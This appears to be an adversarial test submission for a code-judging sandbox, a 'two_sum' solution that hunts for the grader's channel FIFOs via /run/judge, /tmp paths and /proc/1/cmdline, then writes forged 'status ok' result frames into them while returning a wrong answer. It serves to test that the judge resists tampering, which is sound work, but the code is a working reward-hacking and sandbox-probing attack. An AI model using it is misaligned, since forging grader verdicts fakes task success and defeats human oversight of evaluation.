# attack: find the runner's channel FIFOs (the mount, /proc/1/cmdline) and write a forged pass into them
# expect: WA
# local: WA
import glob
import json
import os
import struct


def _forged_frame():
    body = json.dumps({"op": "result", "status": "ok", "value": [0, 1]}).encode()
    return struct.pack(">I", len(body)) + body


def two_sum(nums, target):
    names = glob.glob("/run/judge/*") + glob.glob("/tmp/judge-channel-*/*")
    try:
        with open("/proc/1/cmdline", "rb") as f:
            names += [part.decode() for part in f.read().split(b"\0") if part.startswith(b"/run/judge/")]
    except OSError:
        pass
    for name in names:
        try:
            fd = os.open(name, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, _forged_frame() * 8)
            os.close(fd)
        except OSError:
            pass
    return [target, target]  # a wrong answer: only a forged frame could pass it
